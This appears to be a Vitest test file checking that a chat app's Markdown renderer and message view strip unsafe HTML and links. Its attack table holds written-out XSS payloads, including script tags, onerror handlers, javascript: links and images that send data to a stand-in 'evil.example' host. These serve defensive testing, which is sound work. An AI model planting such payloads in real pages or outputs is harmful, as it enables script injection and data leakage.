// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react';
import { afterAll, afterEach, beforeAll, expect, test, vi } from 'vitest';
import type { Message } from '../../react/index.ts';
import Markdown from '../../ui/markdown/Markdown.tsx';
import { MessageItem } from '../../ui/room/MessageItem.tsx';

/** Nothing takes any time, so that nothing is put off. */
beforeAll(() => void vi.useFakeTimers({ toFake: ['performance'] }));
afterAll(() => void vi.useRealTimers());

afterEach(cleanup);

/** All that an answer may be made of. Nothing in it fetches, runs or frames anything. */
const elements = new Set(
  (
    'a abbr b blockquote br button code dd del div dl dt em h3 h4 h5 h6 hr i input li ol p path pre s section ' +
    'span strong sub sup svg table tbody td tfoot th thead tr ul'
  ).split(' '),
);
/** The attributes by which something outside is reached, in any element. */
const reaching =
  /^(?:src|srcset|data|action|formaction|poster|background|ping|xlink:href|style|on.*|http-equiv|srcdoc|manifest|cite|longdesc|usemap|profile|archive|codebase)$/i;

function isHarmless(page: HTMLElement) {
  for (const element of page.querySelectorAll('*')) {
    expect(elements).toContain(element.localName);
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(reaching);
      if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:)/i);
      if (name === 'href') expect(element.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      if (name === 'href') expect(element.getAttribute('referrerpolicy')).toBe('no-referrer');
    }
  }
}

const url = 'https://evil.example/leak?text=secret';

const attacks: Record<string, string> = {
  'a script': '<script>alert(1)</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'a handler':
    '<img src=x onerror=alert(1)><svg/onload=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>',
  'an image': `![x](${url}) ![x](${url} "title") <img src="${url}"> <picture><source srcset="${url}"></picture>`,
  'an image by reference': `![x][leak] ![leak] ![leak][]\n\n[leak]: ${url} "title"`,
  'an image in a link': `[![x](${url})](${url})`,
  'an image of data': '![x](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)',
  'an image in a table': `| ![x](${url}) |\n|---|\n| ![y](${url}) |`,
  'an image in a footnote': `See[^1].\n\n[^1]: ![x](${url})`,
  'a frame': `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`,
  'a style': `<style>@import "${url}"; body { background: url(${url}) }</style><p style="background:url(${url})">x</p>`,
  'a prefetch': `<link rel=prefetch href="${url}"><link rel="dns-prefetch" href="//evil.example"><meta http-equiv=refresh content="0;${url}"><base href="${url}">`,
  'a form': `<form action="${url}"><input name=x autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>`,
  media: `<video src="${url}" poster="${url}" autoplay></video><audio src="${url}"></audio><track src="${url}">`,
  'a link that runs':
    '[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\nscript:alert(1)) [x](&#106;avascript:alert(1)) [x](\u0001javascript:alert(1)) [x](vbscript:x) <javascript:alert(1)>',
  'a link of data':
    '[x](data:text/html,<script>alert(1)</script>) [x](blob:https://evil.example/1) [x](file:///etc/passwd)',
  'a link to this server':
    '[x](/api/me) [x](api/tickets) [x](//evil.example/x) [x](#/another-room) [x](?code=1&state=2)',
  'a link by reference': `[x][1] [1]\n\n[1]: javascript:alert(1)`,
  'a link that pings': `<a href="${url}" ping="${url}" target=_self rel=opener>x</a>`,
  'a language of code':
    '```js"onload=alert(1)\nx\n```\n\n```<img/src=x>\nx\n```\n\n~~~"><script>alert(1)</script>\nx\n~~~',
  'code that is markup': '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```',
  'a task': `- [x] <img src=x onerror=alert(1)>\n- [ ] ![x](${url})`,
  'broken nesting': `**[x](https://a.example/"onmouseover="alert(1)) _![x](${url})**_ <b><a href="javascript:x">`,
};

test.each(Object.entries(attacks))('an answer cannot bring %s', (_, attack) => {
  isHarmless(render(<Markdown text={attack} growing={false} />).container);
});

test('nor can two of them together, nor one that is cut off while it grows', () => {
  const texts = Object.values(attacks);
  for (const [i, attack] of texts.entries()) {
    const both = `${attack}\n\n${texts[(i + 7) % texts.length]}`;
    isHarmless(render(<Markdown text={both} growing={false} />).container);
    for (const part of [0.3, 0.6, 0.9]) {
      isHarmless(render(<Markdown text={attack.slice(0, attack.length * part)} growing />).container);
    }
    cleanup();
  }
});

/** Their text is to be read all the same, as it was written or as far as it can be understood. */
const costly: Record<string, string> = {
  quotes: `Rewrite: ${'>'.repeat(15_000)}x`,
  'quotes at the beginning': `${'>'.repeat(15_000)}x`,
  'quotes line by line': `${'>'.repeat(1_000)}x\n`.repeat(100),
  'many small quotes': '> x\n\n'.repeat(5_000),
  lists: `${'- '.repeat(5_000)}x`,
  'lists line by line': Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n'),
  emphasis: '*x '.repeat(5_000) + 'x* '.repeat(5_000),
  'all kinds of emphasis': '*x _y ~~z '.repeat(2_000) + 'z~~ y_ x* '.repeat(2_000),
  'ends of emphasis': 'x* '.repeat(100_000),
  pictures: `${'!['.repeat(5_000)}x${'](y)'.repeat(5_000)}`,
  'code that is deep': `\`\`\`rust\n${'/*'.repeat(10_000)}\n\`\`\`\nx`,
  'code that is long': `\`\`\`cpp\n${'_a'.repeat(200_000)}\n\`\`\`\nx`,
  'a heading of a page': `<div>\n\`\`\`\n\n${'*x '.repeat(5_000)}${'x* '.repeat(5_000)}`,
};

test.each(Object.entries(costly))('%s without end neither blank the page nor make it slow', (_, text) => {
  const { container } = render(
    <>
      <Markdown text={text} growing={false} />
      <p>The page is still there.</p>
    </>,
  );
  isHarmless(container);
  expect(container.textContent).toContain('The page is still there.');
  expect(container.textContent).toContain('x');
  let deepest = 0;
  for (let level = [...container.children]; level.length > 0; deepest++) {
    level = level.flatMap((element) => [...element.children]);
  }
  expect(deepest).toBeLessThan(120);
});

test.each(Object.entries(attacks))(
  "a person's message cannot bring %s: it is shown as it was written",
  (_, attack) => {
    const message: Message = {
      kind: 'message',
      key: 'm1',
      messageId: 'm1',
      userId: 'eve',
      name: attack.slice(0, 60),
      content: attack,
      time: 1,
      sending: false,
    };
    const { container } = render(<MessageItem message={message} goesOn={false} remove={undefined} />);
    expect(container.querySelector('a, img, script, iframe, style')).toBeNull();
    expect(container.textContent).toContain(attack);
  },
);
